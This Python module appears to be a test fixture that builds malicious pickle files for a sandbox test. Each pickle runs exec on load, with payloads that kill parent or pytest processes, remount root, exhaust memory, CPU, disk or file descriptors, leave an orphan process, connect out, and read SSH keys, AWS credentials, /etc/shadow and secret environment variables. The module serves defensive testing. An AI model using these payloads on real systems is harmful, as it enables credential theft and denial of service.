"""Pickles whose payload tries to get out of the sandbox rather than past the allow-list: reach the
network, write outside the one writable folder, signal or outlive the parent, exhaust memory, CPU or
disk, read secrets. Each creates ``marker`` (or a sibling named after it) only if its attempt works.

With the static checks on, every one is refused before loading (``builtins.exec`` is not on any
allow-list); ``tests/test_sandbox.py`` loads them with the checks off to prove the sandbox alone
holds them. Knobs the test sets: ``PACKAGER_TEST_LISTEN_PORT`` (a loopback port it listens on).
"""
from __future__ import annotations

import pickle
from pathlib import Path

from tests.attacks.build_corpus import Attack, _Reduce

SLEEPER = "31337.5"  # argument of the process a payload tries to leave behind: the test looks for it afterwards


def home_marker(marker: str) -> Path:
    return Path.home() / f"{Path(marker).name}.home"


def tmp_marker(marker: str) -> str:
    return f"/tmp/{Path(marker).name}.tmp"


def _payloads(marker: str) -> dict[str, str]:
    touch = f"open({marker!r}, 'w').write('escaped')"
    return {
        "connect_loopback": f"""
import os, socket
port = int(os.environ.get('PACKAGER_TEST_LISTEN_PORT', '1'))
socket.create_connection(('127.0.0.1', port), timeout=3).sendall(b'escaped')
{touch}
""",
        "connect_outside": f"""
import socket
socket.create_connection(('1.1.1.1', 443), timeout=3)
{touch}
""",
        "write_home": f"""
open({str(home_marker(marker))!r}, 'w').write('escaped')
{touch}
""",
        "write_tmp": f"""
open({tmp_marker(marker)!r}, 'w').write('escaped')
""",
        "write_output_parent": f"""
import os
# the writable mount is the workspace beside the output; its parent is the user's folder
for line in open('/proc/self/mountinfo'):
    fields = line.split()
    point, options = fields[4], fields[5]
    if options.startswith('rw') and point not in ('/tmp', '/dev', '/proc') and not point.startswith(('/dev/', '/proc/', '/sys')):
        target = os.path.join(os.path.dirname(point), {Path(marker).name + '.parent'!r})
        open(target, 'w').write('escaped')
        {touch}
""",
        "remount_root_rw": f"""
import os
os.system('mount -o remount,rw / && touch {marker}')
{touch}
""",
        "kill_parent": """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
for pid in os.listdir('/proc'):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
""",
        "kill_visible_pytest": f"""
import os, signal
for pid in os.listdir('/proc'):
    try:
        cmd = open(f'/proc/{{pid}}/cmdline', 'rb').read()
    except OSError:
        continue
    if b'pytest' in cmd or b'packager.cli' in cmd:
        os.kill(int(pid), signal.SIGKILL)
        {touch}
""",
        "outlive_child": f"""
import os, subprocess
if os.fork() == 0:
    os.setsid()
    subprocess.Popen(['sleep', '{SLEEPER}'], start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    os._exit(0)
raise ValueError('left a sleeper behind')
""",
        "allocate_30gb": f"""
block = bytearray(30 * 2**30)
{touch}
""",
        "spin_forever": """
while True:
    pass
""",
        "write_50gb_file": f"""
with open('/tmp/big', 'wb') as fh:
    fh.seek(50 * 2**30)
    fh.write(b'x')
{touch}
""",
        "read_secrets": f"""
import os, glob
found = []
home = os.path.expanduser('~')
for pattern in [home + '/.ssh/*', home + '/.aws/*', '/root/.ssh/*', os.environ.get('PACKAGER_HOME', home + '/.packager') + '/*',
                '/etc/shadow']:
    for path in glob.glob(pattern):
        try:
            found.append(open(path, errors='replace').read()[:200])
        except OSError:
            pass
found += [f'{{k}}={{v}}' for k, v in os.environ.items() if 'TOKEN' in k or 'SECRET' in k or 'PASSWORD' in k]
raise ValueError('stolen: ' + ' | '.join(found).replace(chr(10), ' '))
""",
        "fd_bomb": f"""
files = [open('/dev/null') for _ in range(1_000_000)]
{touch}
""",
    }


def build(out: Path, marker: str, benign: Path) -> list[Attack]:
    attacks = []
    for name, code in _payloads(marker).items():
        path = out / f"escape_{name}.pkl"
        path.write_bytes(pickle.dumps(_Reduce(exec, code), protocol=4))
        attacks.append(Attack(path.name, path, "either", runs_code=True))
    return attacks
